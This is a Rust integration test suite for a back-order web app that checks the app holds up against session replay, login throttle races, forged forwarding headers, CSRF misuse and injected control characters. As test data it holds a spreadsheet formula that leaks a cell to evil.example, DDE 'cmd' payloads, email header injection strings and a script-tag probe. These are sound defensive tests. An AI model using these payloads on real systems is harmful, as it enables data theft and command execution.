//! Issue 14, "what a careful attacker found": each finding tried again the way the
//! attacker tried it, over HTTP, and checked by what a person (or the database) sees.
//! Tokens in the request log are checked in `request_logs`.

use backorder_desk::db::users::Role;
use diesel::prelude::*;
use diesel::sql_types::{BigInt, Text};
use reqwest::StatusCode;
use serde_json::json;

use crate::api::{Api, date_json, in_days};
use crate::helpers::{Browser, PASSWORD, TestApp, csrf_in, spawn_app, spawn_app_with};
use crate::inventory::{upload_csv, upload_to};
use crate::shop::{self, text_of};

fn count(app: &TestApp, query: &str) -> i64 {
    diesel::dsl::sql::<BigInt>(query)
        .get_result(&mut app.conn())
        .unwrap_or_else(|e| panic!("{query}: {e}"))
}

fn texts(app: &TestApp, query: &str) -> Vec<String> {
    diesel::dsl::sql::<Text>(query)
        .load(&mut app.conn())
        .unwrap_or_else(|e| panic!("{query}: {e}"))
}

fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

/// A request made with nothing but a copied cookie.
async fn replay_get(app: &TestApp, cookie: &str, path: &str) -> reqwest::Response {
    no_redirects()
        .get(app.url(path))
        .header("Cookie", cookie)
        .send()
        .await
        .unwrap()
}

async fn replay_post(
    app: &TestApp,
    cookie: &str,
    path: &str,
    fields: &[(&str, &str)],
) -> reqwest::Response {
    no_redirects()
        .post(app.url(path))
        .header("Cookie", cookie)
        .form(fields)
        .send()
        .await
        .unwrap()
}

#[track_caller]
fn assert_sent_to_login(response: &reqwest::Response, what: &str) {
    assert_eq!(response.status(), 303, "{what}");
    assert_eq!(response.headers()["location"], "/login", "{what}");
}

fn user_id(app: &TestApp, email: &str) -> i64 {
    count(
        app,
        &format!("SELECT id FROM users WHERE email = '{email}'"),
    )
}

// --- 1. Sessions end on the server ---

#[tokio::test]
async fn after_sign_out_a_copied_cookie_neither_reads_nor_writes() {
    let app = spawn_app().await;
    shop::product(&app, "KETTLE", 5, 2_500);
    shop::order(&app, "S-1", "ada@example.com", "Ada", "KETTLE", 1, 0);
    let rep = app.add_user(Role::Rep);
    let browser = Browser::new(&app);
    let cookie = browser.sign_in(&rep, PASSWORD).await;
    // What the attacker holds: the cookie, and the CSRF token of its session.
    let page = replay_get(&app, &cookie, "/orders/S-1").await;
    assert_eq!(
        page.status(),
        200,
        "the copied cookie works while signed in"
    );
    let csrf = csrf_in(&page.text().await.unwrap()).expect("a CSRF token");

    let signed_out = browser.post("/logout", &[]).await;
    assert_sent_to_login(&signed_out, "signing out");

    let read = replay_get(&app, &cookie, "/orders/S-1").await;
    assert_sent_to_login(&read, "a read with the copied cookie");
    let write = replay_post(
        &app,
        &cookie,
        "/orders/S-1/notes",
        &[("body", "written after sign-out"), ("csrf_token", &csrf)],
    )
    .await;
    assert_sent_to_login(&write, "a write with the copied cookie");
    assert_eq!(count(&app, "SELECT count(*) FROM notes"), 0);
}

#[tokio::test]
async fn disabling_a_user_or_changing_their_role_or_password_ends_their_sessions() {
    let app = spawn_app().await;
    let admin = Browser::new(&app);
    let admin_email = app.add_user(Role::Admin);
    admin.sign_in(&admin_email, PASSWORD).await;
    let mut cookies = Vec::new();
    for _ in 0..3 {
        let email = app.add_user(Role::Rep);
        let cookie = Browser::new(&app).sign_in(&email, PASSWORD).await;
        assert_eq!(replay_get(&app, &cookie, "/").await.status(), 200);
        cookies.push((email, cookie));
    }
    let users_page = admin.get("/admin/users").await.text().await.unwrap();
    assert!(
        users_page.contains(">New password for Test Customer-service rep</label>")
            && users_page.contains(">Set password of Test Customer-service rep</button>"),
        "the users page has a labelled password field and button"
    );

    let new_password = "a-brand-new-password";
    let changes: [&[(&str, &str)]; 3] = [
        &[("disabled", "1")],
        &[("role", "manager")],
        &[("new_password", new_password)],
    ];
    for ((email, _), change) in cookies.iter().zip(changes) {
        let id = user_id(&app, email);
        let response = admin.post(&format!("/admin/users/{id}"), change).await;
        assert_eq!(response.status(), 303, "{change:?}");
    }

    for ((email, cookie), change) in cookies.iter().zip(changes) {
        let after = replay_get(&app, cookie, "/").await;
        assert_sent_to_login(&after, &format!("{email} after {change:?}"));
    }
    let (changed, _) = &cookies[2];
    let old = Browser::new(&app)
        .post("/login", &[("email", changed), ("password", PASSWORD)])
        .await;
    assert_eq!(old.status(), 401, "the old password no longer works");
    Browser::new(&app).sign_in(changed, new_password).await;
    assert_eq!(
        texts(
            &app,
            "SELECT action FROM audit_log WHERE action = 'user_password_changed'"
        )
        .len(),
        1
    );
    // The admin's own session is untouched.
    assert_eq!(admin.get("/admin/users").await.status(), 200);
}

#[tokio::test]
async fn sign_out_everywhere_ends_every_session_of_that_user_only() {
    let app = spawn_app().await;
    let rep = app.add_user(Role::Rep);
    let laptop = Browser::new(&app);
    let laptop_cookie = laptop.sign_in(&rep, PASSWORD).await;
    let phone_cookie = Browser::new(&app).sign_in(&rep, PASSWORD).await;
    let colleague = app.add_user(Role::Rep);
    let colleague_cookie = Browser::new(&app).sign_in(&colleague, PASSWORD).await;

    let home = laptop.get("/").await.text().await.unwrap();
    assert!(
        home.contains("<form action=\"/logout/everywhere\" method=\"post\"")
            && home.contains(">Sign out everywhere</button>"),
        "every page has a Sign out everywhere button"
    );
    let response = laptop.post("/logout/everywhere", &[]).await;
    assert_sent_to_login(&response, "signing out everywhere");

    for (cookie, what) in [(&laptop_cookie, "the laptop"), (&phone_cookie, "the phone")] {
        assert_sent_to_login(&replay_get(&app, cookie, "/").await, what);
    }
    assert_eq!(
        replay_get(&app, &colleague_cookie, "/").await.status(),
        200,
        "another user's session goes on"
    );
    assert_eq!(
        texts(
            &app,
            "SELECT action FROM audit_log WHERE action = 'signed_out_everywhere'"
        )
        .len(),
        1
    );
}

// --- 2. CSV cells a spreadsheet would run ---

const CUSTOMER_FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Details\")";
const NAME_FORMULA: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const SUPPLIER_FORMULA: &str = "-2+3+cmd|' /C calc'!A0";

/// True when a spreadsheet would run the cell: it starts like a formula and is not a
/// plain number.
fn runs_in_a_spreadsheet(cell: &str) -> bool {
    let plain_number = {
        let digits = cell.trim_start_matches(['-', '+']);
        !digits.is_empty() && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
    };
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number
}

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

type ProductState = (String, String, Option<String>, i32, i32, bool, i64);

fn products(app: &TestApp) -> Vec<ProductState> {
    use backorder_desk::db::schema::{products as p, suppliers as s};
    p::table
        .left_join(s::table)
        .order(p::sku)
        .select((
            p::sku,
            p::name,
            s::name.nullable(),
            p::reorder_point,
            p::safety_stock,
            p::backorderable,
            p::unit_price_cents,
        ))
        .load(&mut app.conn())
        .unwrap()
}

#[tokio::test]
async fn csv_exports_neutralise_formulas_and_import_back_unchanged() {
    let api = Api::start().await;
    api.product(
        "KET-1",
        json!({ "name": NAME_FORMULA, "supplier": SUPPLIER_FORMULA, "on_hand": 0,
                "backorderable": true, "unit_price_cents": 3499 }),
    )
    .await;
    api.sql("UPDATE suppliers SET lead_time_days = 10");
    // Names that really start with an apostrophe, or with one before a formula sign.
    api.product("NDUJA", json!({ "name": "'Nduja, spicy", "on_hand": 3 }))
        .await;
    api.product("QUOTE", json!({ "name": "'=not a formula", "on_hand": 3 }))
        .await;
    let (status, reply) = api
        .post(
            "/api/v1/orders",
            &json!({ "number": "SO-666", "customer": { "email": "eve@example.com", "name": CUSTOMER_FORMULA },
                     "lines": [{ "sku": "KET-1", "quantity": 1, "unit_price_cents": 3499 }] }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{reply}");
    let app = &api.app;
    app.login_as(Role::Manager).await;

    let queue = app.get("/queue.csv").await.bytes().await.unwrap();
    let inventory = app.get("/inventory.csv").await.bytes().await.unwrap();
    for (file, bytes) in [("/queue.csv", &queue), ("/inventory.csv", &inventory)] {
        for row in csv_rows(bytes) {
            for cell in &row {
                assert!(
                    !runs_in_a_spreadsheet(cell),
                    "{file} has a cell a spreadsheet runs: {cell:?}"
                );
            }
        }
    }
    let queue_rows = csv_rows(&queue);
    let order = queue_rows
        .iter()
        .find(|row| row[0] == "SO-666")
        .expect("the order in the queue");
    assert_eq!(order[1], format!("'{CUSTOMER_FORMULA}"));
    assert_eq!(order[4], format!("'{NAME_FORMULA}"));
    let inventory_rows = csv_rows(&inventory);
    let kettle = inventory_rows.iter().find(|r| r[0] == "KET-1").unwrap();
    assert_eq!(kettle[1], format!("'{NAME_FORMULA}"));
    assert_eq!(kettle[2], format!("'{SUPPLIER_FORMULA}"));
    let quote = inventory_rows.iter().find(|r| r[0] == "QUOTE").unwrap();
    assert_eq!(quote[1], "''=not a formula");

    // The exported file imports back as the same products.
    let before = products(app);
    let response = upload_csv(app, &inventory).await;
    assert_eq!(response.status(), 200);
    assert!(
        text_of(&response.text().await.unwrap())
            .contains("Imported: 0 products created, 3 updated")
    );
    assert_eq!(products(app), before);
    assert!(before.iter().any(|p| p.1 == NAME_FORMULA));
    assert!(before.iter().any(|p| p.1 == "'Nduja, spicy"));
}

// --- 3. The sign-in limit cannot be raced ---

#[tokio::test]
async fn wrong_passwords_sent_at_once_are_throttled_at_the_limit() {
    let app = spawn_app().await;
    let email = app.add_user(Role::Rep);
    let csrf = app.csrf().await;
    let attempts: Vec<_> = (0..15)
        .map(|i| {
            let request = app.client.post(app.url("/login")).form(&[
                ("email", email.as_str()),
                ("password", &format!("wrong-password-{i}")),
                ("csrf_token", csrf.as_str()),
            ]);
            tokio::spawn(async move { request.send().await.unwrap().status() })
        })
        .collect();
    let mut statuses = Vec::new();
    for attempt in attempts {
        statuses.push(attempt.await.unwrap());
    }

    let wrong = statuses.iter().filter(|s| **s == 401).count();
    let throttled = statuses.iter().filter(|s| **s == 429).count();
    assert_eq!(wrong + throttled, 15, "{statuses:?}");
    assert!(
        wrong <= 5,
        "{wrong} answered 401 (the limit is 5): {statuses:?}"
    );
    assert!(throttled >= 10, "{statuses:?}");
    assert!(
        count(
            &app,
            "SELECT count(*) FROM login_attempts WHERE NOT succeeded"
        ) <= 5
    );
    assert_eq!(app.login(&email, PASSWORD).await.status(), 429);
}

// --- 4. Whose address the per-address limit counts ---

async fn sign_in_from(app: &TestApp, email: &str, forwarded_for: &str) -> StatusCode {
    let csrf = app.csrf().await;
    app.client
        .post(app.url("/login"))
        .header("X-Forwarded-For", forwarded_for)
        .form(&[
            ("email", email),
            ("password", "not-the-password"),
            ("csrf_token", &csrf),
        ])
        .send()
        .await
        .unwrap()
        .status()
}

fn fail_from(app: &TestApp, ip: &str, times: usize) {
    for i in 0..times {
        shop::sql(
            app,
            &format!(
                "INSERT INTO login_attempts (email, ip, succeeded) VALUES ('guess{i}@x.test', '{ip}', false)"
            ),
        );
    }
}

fn last_address(app: &TestApp) -> String {
    texts(
        app,
        "SELECT ip FROM login_attempts ORDER BY id DESC LIMIT 1",
    )
    .remove(0)
}

#[tokio::test]
async fn forwarded_for_from_an_untrusted_peer_is_ignored() {
    let app = spawn_app().await;
    let reply = sign_in_from(&app, "a@x.test", "203.0.113.77").await;
    assert_eq!(reply, 401);
    assert_eq!(last_address(&app), "127.0.0.1", "the peer's address");

    fail_from(&app, "127.0.0.1", 29);
    let reply = sign_in_from(&app, "b@x.test", "203.0.113.78").await;
    assert_eq!(
        reply, 429,
        "a made-up X-Forwarded-For does not escape the address's limit"
    );
}

#[tokio::test]
async fn a_trusted_proxy_names_the_client_and_only_a_valid_address_is_kept() {
    let app = spawn_app_with(|settings| {
        settings.trusted_proxies =
            backorder_desk::config::IpBlock::parse_list("127.0.0.1/32, 10.0.0.0/8").unwrap();
    })
    .await;
    // The client forged the left-most entry; the proxy appended the real one.
    assert_eq!(
        sign_in_from(&app, "a@x.test", "6.6.6.6, 203.0.113.9").await,
        401
    );
    assert_eq!(last_address(&app), "203.0.113.9");
    // A chain of trusted proxies is walked through.
    sign_in_from(&app, "b@x.test", "203.0.113.10, 10.1.2.3").await;
    assert_eq!(last_address(&app), "203.0.113.10");
    // Not an address: the proxy's own address is kept, never the text.
    sign_in_from(&app, "c@x.test", "<script>alert(1)</script>").await;
    assert_eq!(last_address(&app), "127.0.0.1");

    fail_from(&app, "203.0.113.9", 30);
    assert_eq!(sign_in_from(&app, "d@x.test", "203.0.113.9").await, 429);
    assert_eq!(
        sign_in_from(&app, "e@x.test", "203.0.113.11").await,
        401,
        "another client behind the proxy is not limited by it"
    );
}

// --- 5. The CSRF token never comes from the address ---

#[tokio::test]
async fn the_csrf_token_counts_only_in_the_body_or_the_header() {
    let app = spawn_app().await;
    shop::product(&app, "KETTLE", 5, 2_500);
    shop::order(&app, "S-1", "ada@example.com", "Ada", "KETTLE", 1, 0);
    app.login_as(Role::Manager).await;
    let csrf = app.csrf().await;

    let in_address = app
        .client
        .post(app.url(&format!("/orders/S-1/notes?csrf_token={csrf}")))
        .form(&[("body", "token in the address")])
        .send()
        .await
        .unwrap();
    assert_eq!(in_address.status(), 403);
    let file = b"sku,name\nNEW-1,New thing\n";
    let in_address = format!("/inventory/import?csrf_token={csrf}");
    let upload_in_address = upload_to(&app, &in_address, None, file).await;
    assert_eq!(upload_in_address.status(), 403);
    assert_eq!(count(&app, "SELECT count(*) FROM notes"), 0);
    assert_eq!(count(&app, "SELECT count(*) FROM products"), 1);

    let in_body = app
        .post_form("/orders/S-1/notes", &[("body", "token in the form")])
        .await;
    assert!(in_body.status().is_redirection(), "{}", in_body.status());
    let in_header = app
        .client
        .post(app.url("/orders/S-1/notes"))
        .header("X-CSRF-Token", &csrf)
        .form(&[("body", "token in the header")])
        .send()
        .await
        .unwrap();
    assert!(in_header.status().is_redirection());
    let upload = upload_to(&app, "/inventory/import", Some(&csrf), file).await;
    assert_eq!(upload.status(), 200);
    assert_eq!(count(&app, "SELECT count(*) FROM notes"), 2);
    assert_eq!(count(&app, "SELECT count(*) FROM products"), 2);

    let page = app.get("/inventory").await.text().await.unwrap();
    assert!(
        !page.contains("csrf_token="),
        "no page puts the token in an address"
    );
}

// --- 6. Numbers: one rule on the pages and the API ---

#[tokio::test]
async fn stock_numbers_have_the_same_bounds_on_the_pages_and_the_api() {
    let api = Api::start().await;
    api.product("KET-1", json!({ "name": "Kettle", "on_hand": 10 }))
        .await;
    let app = &api.app;
    app.login_as(Role::Manager).await;
    let on_hand = || count(app, "SELECT on_hand::int8 FROM products");

    for change in ["2147483647", "10000001", "9999991"] {
        let response = app
            .post_form(
                "/inventory/KET-1/adjust",
                &[("change", change), ("reason", "found_stock")],
            )
            .await;
        assert_eq!(response.status(), 422, "a change of {change}");
        let page = text_of(&response.text().await.unwrap());
        assert!(
            page.contains("a product holds at most 10,000,000 units"),
            "{page}"
        );
        assert_eq!(on_hand(), 10);
    }
    let (status, reply) = api
        .put("/api/v1/products/KET-1", &json!({ "on_hand": 10_000_001 }))
        .await;
    crate::api::assert_error(
        status,
        &reply,
        StatusCode::UNPROCESSABLE_ENTITY,
        Some("on_hand"),
    );
    // Up to the bound is fine, either way.
    let response = app
        .post_form(
            "/inventory/KET-1/adjust",
            &[("change", "9999990"), ("reason", "found_stock")],
        )
        .await;
    assert_eq!(response.status(), 303);
    assert_eq!(on_hand(), 10_000_000);

    // A purchase-order line: the page and the API take the same quantities.
    let expected_on = in_days(10).to_string();
    let page_line = |qty: &'static str, reference: &'static str| {
        let form = vec![
            ("reference", reference),
            ("supplier", "Acme"),
            ("expected_on", expected_on.as_str()),
            ("sku", "KET-1"),
            ("qty", qty),
        ];
        async move { app.post_form("/purchase-orders", &form).await }
    };
    assert_eq!(page_line("10000001", "PO-1").await.status(), 422);
    let (status, reply) = api
        .post(
            "/api/v1/purchase-orders",
            &json!({ "reference": "PO-2", "supplier": "Acme", "expected_on": date_json(in_days(10)),
                     "lines": [{ "sku": "KET-1", "quantity": 10_000_001 }] }),
        )
        .await;
    crate::api::assert_error(
        status,
        &reply,
        StatusCode::UNPROCESSABLE_ENTITY,
        Some("lines[0].quantity"),
    );
    assert_eq!(page_line("10000000", "PO-3").await.status(), 303);
    let (status, reply) = api
        .post(
            "/api/v1/purchase-orders",
            &json!({ "reference": "PO-4", "supplier": "Acme", "expected_on": date_json(in_days(10)),
                     "lines": [{ "sku": "KET-1", "quantity": 10_000_000 }] }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{reply}");
}

// --- 7. A purchase order sent again with another date ---

#[tokio::test]
async fn a_purchase_order_sent_again_with_another_date_is_a_conflict() {
    let api = Api::start().await;
    api.product("KET-1", json!({ "name": "Kettle" })).await;
    let body = |expected_on| {
        json!({ "reference": "PO-77", "supplier": "Acme", "expected_on": date_json(expected_on),
                "lines": [{ "sku": "KET-1", "quantity": 5 }] })
    };
    let (status, _) = api
        .post("/api/v1/purchase-orders", &body(in_days(10)))
        .await;
    assert_eq!(status, StatusCode::CREATED);

    let (status, reply) = api
        .post("/api/v1/purchase-orders", &body(in_days(30)))
        .await;
    crate::api::assert_error(status, &reply, StatusCode::CONFLICT, None);
    let stored = texts(&api.app, "SELECT expected_on::text FROM purchase_orders");
    assert_eq!(stored, [in_days(10).to_string()]);

    // The same request again is still the same request after the buyer moved the date.
    let (status, _) = api
        .post("/api/v1/purchase-orders", &body(in_days(10)))
        .await;
    assert_eq!(status, StatusCode::OK);
    api.app.login_as(Role::Manager).await;
    let moved = api
        .app
        .post_form(
            "/purchase-orders/PO-77/expected-date",
            &[
                ("expected_on", &in_days(20).to_string()),
                ("confirm", "yes"),
            ],
        )
        .await;
    assert_eq!(moved.status(), 303);
    let (status, reply) = api
        .post("/api/v1/purchase-orders", &body(in_days(10)))
        .await;
    assert_eq!(status, StatusCode::OK, "{reply}");
    assert_eq!(reply["expected_on"], date_json(in_days(20)));
    let (status, _) = api
        .post("/api/v1/purchase-orders", &body(in_days(20)))
        .await;
    assert_eq!(status, StatusCode::CONFLICT);
}

// --- 8. Control and direction characters ---

#[tokio::test]
async fn control_characters_are_refused_in_single_line_fields_on_both_paths() {
    let api = Api::start().await;
    api.product("KET-1", json!({ "name": "Kettle", "on_hand": 5 }))
        .await;
    let before = api.footprint();
    let order = |name: &str, email: &str| {
        json!({ "number": "SO-1", "customer": { "email": email, "name": name },
                "lines": [{ "sku": "KET-1", "quantity": 1, "unit_price_cents": 100 }] })
    };
    for (path, body, field) in [
        (
            "/api/v1/orders",
            order("Ana\r\nBcc: everyone@example.com", "ana@example.com"),
            "customer.name",
        ),
        (
            "/api/v1/orders",
            order("Ana\u{7}", "ana@example.com"),
            "customer.name",
        ),
        (
            "/api/v1/orders",
            order("Ana", "ana\u{202E}@example.com"),
            "customer.email",
        ),
        (
            "/api/v1/purchase-orders",
            json!({ "reference": "PO-1", "supplier": "Acme\nBcc: x", "expected_on": date_json(in_days(5)),
                    "lines": [{ "sku": "KET-1", "quantity": 1 }] }),
            "supplier",
        ),
        (
            "/api/v1/purchase-orders",
            json!({ "reference": "PO\u{202E}1", "supplier": "Acme", "expected_on": date_json(in_days(5)),
                    "lines": [{ "sku": "KET-1", "quantity": 1 }] }),
            "reference",
        ),
        (
            "/api/v1/restock-subscriptions",
            json!({ "sku": "KET-1", "email": "ben\u{2066}@example.com" }),
            "email",
        ),
    ] {
        let (status, reply) = api.post(path, &body).await;
        assert!(status.is_client_error(), "{path} {body}: {status} {reply}");
        crate::api::assert_error(status, &reply, status, Some(field));
    }
    for (sku, body, field) in [
        ("KET-2", json!({ "name": "Kettle\r\nBcc: x" }), "name"),
        (
            "KET-2",
            json!({ "name": "Kettle", "supplier": "Ac\tme" }),
            "supplier",
        ),
        ("KET%E2%80%AE2", json!({ "name": "Kettle" }), "sku"),
    ] {
        let (status, reply) = api.put(&format!("/api/v1/products/{sku}"), &body).await;
        crate::api::assert_error(
            status,
            &reply,
            StatusCode::UNPROCESSABLE_ENTITY,
            Some(field),
        );
    }
    assert_eq!(api.footprint(), before, "nothing was stored");

    // The pages refuse the same, with the field's message.
    let app = &api.app;
    app.login_as(Role::Admin).await;
    for (path, form, message) in [
        (
            "/admin/users",
            vec![
                ("email", "eve@shop.test"),
                ("name", "Eve\r\nBcc: all@shop.test"),
                ("role", "rep"),
                ("password", PASSWORD),
            ],
            "this has a carriage return",
        ),
        (
            "/purchase-orders",
            vec![
                ("reference", "PO-9"),
                ("supplier", "Acme\nBcc: x"),
                ("expected_on", &in_days(3).to_string()),
                ("sku", "KET-1"),
                ("qty", "1"),
            ],
            "this has a line break",
        ),
        (
            "/purchase-orders",
            vec![
                ("reference", "PO-9"),
                ("supplier", "Acme"),
                ("expected_on", &in_days(3).to_string()),
                ("sku", "KET\u{202E}1"),
                ("qty", "1"),
            ],
            "direction marks",
        ),
    ] {
        let response = app.post_form(path, &form).await;
        assert_eq!(response.status(), 422, "{path} {form:?}");
        let page = text_of(&response.text().await.unwrap());
        assert!(page.contains(message), "{path}: {page}");
    }
    assert_eq!(
        count(
            app,
            "SELECT count(*) FROM users WHERE email = 'eve@shop.test'"
        ),
        0
    );
    assert_eq!(count(app, "SELECT count(*) FROM purchase_orders"), 0);
    let upload = upload_csv(app, b"sku,name\nNEW-1,\"Two\nlines\"\n").await;
    assert_eq!(upload.status(), 422);
    assert_eq!(count(app, "SELECT count(*) FROM products"), 1);
}

#[tokio::test]
async fn direction_controls_are_taken_out_of_names_and_refused_in_identifiers() {
    let api = Api::start().await;
    let (status, product) = api
        .put(
            "/api/v1/products/KET-1",
            &json!({ "name": "Kettle \u{202E}gpj.exe", "supplier": "\u{2067}Acme\u{2069}", "on_hand": 5 }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{product}");
    assert_eq!(product["name"], "Kettle gpj.exe");
    assert_eq!(product["supplier"], "Acme");
    let (status, reply) = api
        .put(
            "/api/v1/products/KET%E2%81%A6-2",
            &json!({ "name": "Kettle" }),
        )
        .await;
    crate::api::assert_error(
        status,
        &reply,
        StatusCode::UNPROCESSABLE_ENTITY,
        Some("sku"),
    );
    let names = texts(&api.app, "SELECT name FROM products");
    assert_eq!(names, ["Kettle gpj.exe"]);
}

// --- 9. Headers, and HEAD on a link ---

#[tokio::test]
async fn strict_transport_security_is_sent_when_the_public_url_is_https() {
    let https = spawn_app_with(|settings| {
        settings.public_url = "https://desk.shop.example".to_owned();
    })
    .await;
    for path in ["/login", "/healthz"] {
        let response = https.get(path).await;
        let hsts = response
            .headers()
            .get("strict-transport-security")
            .unwrap_or_else(|| panic!("{path}: no Strict-Transport-Security"))
            .to_str()
            .unwrap();
        assert!(hsts.contains("max-age=31536000"), "{hsts}");
    }
    let http = spawn_app().await;
    assert!(
        http.get("/login")
            .await
            .headers()
            .get("strict-transport-security")
            .is_none(),
        "not over plain http (a browser would ignore it, and a first run is http)"
    );
}

#[tokio::test]
async fn head_on_a_link_answers_like_get_and_changes_nothing() {
    let app = spawn_app().await;
    shop::product(&app, "KETTLE", 0, 2_500);
    shop::purchase_order(&app, "PO-1", "KETTLE", 10, 5);
    shop::order(&app, "W-1", "ada@example.com", "Ada", "KETTLE", 2, 0);
    let notice = texts(
        &app,
        "SELECT body_text FROM messages WHERE kind = 'backorder_notice'",
    )
    .remove(0);
    let line = notice
        .lines()
        .find(|l| l.contains("Keep waiting:"))
        .expect("a keep-waiting link");
    let link = &line[line.find("/l/").expect("a link")..].trim();
    let tampered = format!("{}x", &link[..link.len() - 1]);
    let footprint = || {
        texts(
            &app,
            "SELECT (SELECT count(*) FROM link_uses)::text || '/' || (SELECT count(*) FROM notes)::text || '/' || (SELECT string_agg(customer_choice, ',') FROM order_lines)",
        )
    };
    let before = footprint();

    for path in [link.to_string(), tampered] {
        let get = app.client.get(app.url(&path)).send().await.unwrap();
        let head = app.client.head(app.url(&path)).send().await.unwrap();
        assert_eq!(head.status(), get.status(), "{path}");
        for name in ["content-type", "content-security-policy", "cache-control"] {
            assert_eq!(
                head.headers().get(name),
                get.headers().get(name),
                "{path}: {name}"
            );
        }
        assert!(head.bytes().await.unwrap().is_empty(), "HEAD has no body");
    }
    assert_eq!(footprint(), before, "HEAD changed nothing");

    // The link still works, once, after the HEAD.
    let page = app.get(link).await;
    assert_eq!(page.status(), 200);
    let token = csrf_in(&page.text().await.unwrap()).expect("a confirmation form");
    let confirmed = app
        .client
        .post(app.url(link))
        .form(&[("csrf_token", token.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(confirmed.status(), 200);
    assert!(text_of(&confirmed.text().await.unwrap()).contains("Thank you"));
}
